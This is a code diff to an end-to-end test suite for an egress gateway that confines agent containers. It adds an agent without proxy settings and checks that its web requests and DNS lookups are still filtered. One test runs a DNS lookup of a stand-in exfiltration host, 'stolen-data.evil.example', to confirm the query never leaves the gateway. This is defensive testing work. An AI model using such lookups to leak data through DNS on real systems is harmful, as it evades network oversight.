@@ -13,8 +13,10 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from functools import partial
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
 
 from squidkeeper.operate.demo.network import internet, run
 from tests.e2e.dns import Names
@@ -31,7 +33,7 @@ pytestmark = [pytest.mark.system, pytest.mark.long, pytest.mark.timeout(1800)]
 POLICY = (REPOSITORY / "squid/kubernetes/policy.yaml").read_text()
 FLEET = REPOSITORY / "squid/FLEET.md"
 PROJECT = "squidkeeper-test"
-GATEWAY, AGENT = f"{PROJECT}_gateway_1", f"{PROJECT}_agent_1"
+GATEWAY, AGENT, PLAIN = (f"{PROJECT}_{name}_1" for name in ("gateway", "agent", "plain"))
 BRIDGE = "squidkeeper0"  # of the agents' network
 RIGHTS = ("--read-only", "--tmpfs", "/tmp", "--cap-drop", "ALL", "--security-opt", "no-new-privileges")
 WEB = "203.0.113.77"
@@ -59,8 +61,8 @@ class Stack:
     names: Names  # whom the gateway asks
     strangers: Names  # whom an agent's question would reach on the host
 
-    def agent(self, *words: str) -> tuple[int, str]:
-        done = self.podman.run("exec", AGENT, *words, check=False)
+    def agent(self, *words: str, name: str = AGENT) -> tuple[int, str]:
+        done = self.podman.run("exec", name, *words, check=False)
         return done.returncode, done.stdout
 
     def answers(self, url: str, code: str) -> bool:
@@ -96,6 +98,16 @@ def swap(policy: Path, number: int, text: str) -> None:
         shutil.rmtree(policy / former)
 
 
+def without_proxy_settings() -> dict[str, Any]:
+    """The gateway's command by the comments of compose.yaml, and a second agent, `plain`."""
+    text = (REPOSITORY / "compose.yaml").read_text()
+    services = yaml.safe_load(text.replace("# - ./", "- ./"))["services"]
+    [added] = re.findall(r"without proxy settings add: (.*)", text)
+    left = {name: value for name, value in services["agent"]["environment"].items() if "proxy" not in name.lower()}
+    command = [*services["gateway"]["command"], *added.split(", ")]
+    return {"gateway": {"command": command}, "plain": services["agent"] | {"environment": left}}
+
+
 @pytest.fixture(scope="module")
 def stack(podman: Podman, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
     folder = podman.folder / "stack"
@@ -109,7 +121,8 @@ def stack(podman: Podman, tmp_path_factory: pytest.TempPathFactory) -> Iterator[
         origins = Origins(tmp_path_factory.mktemp("origins"))
         shutil.copy(origins.authority.certificate, config / "upstream.crt")
         (config / "local.conf").write_text("tls_outgoing_options cafile=/gateway/etc/upstream.crt\n")
-        other = {"gateway": {"dns": [NAMESERVER], "volumes": [f"{config}:/config:ro"]}}
+        other = without_proxy_settings()
+        other["gateway"] |= {"dns": [NAMESERVER], "volumes": [f"{config}:/config:ro"]}
         (folder / "other.yaml").write_text(json.dumps({"services": other}))
         podman.environment["POLICY"] = str(policy)
         files = ("-f", "compose.yaml", "-f", str(folder / "other.yaml"), "-p", PROJECT, "--in-pod", "false")
@@ -139,6 +152,15 @@ def test_the_two_requests_of_the_walkthrough_from_the_agents_container(stack: St
     assert requests["https://en.wikipedia.org/"]["rule"] == "no-wikipedia"
     assert {line["gateway"] for line in requests.values()} == {"gw-1"}
     assert requests["https://example.com/"]["client"].startswith("192.168.137.")
+
+
+def test_an_agent_without_proxy_settings_is_served_as_the_other(stack: Stack) -> None:
+    for url, code in (("https://example.com/", "200"), ("http://example.com/", "200"), ("https://x.example/", "403")):
+        assert stack.agent("curl", *CODE, url, name=PLAIN) == (0, code)
+    stack.names.queries.clear()
+    code, told = stack.agent("getent", "ahostsv4", "stolen-data.evil.example", name=PLAIN)
+    assert (code, {line.split()[0] for line in told.splitlines()}) == (0, {"192.168.137.1"})
+    assert (stack.names.queries, stack.strangers.queries) == ([], [])
 
 
 @pytest.mark.parametrize(
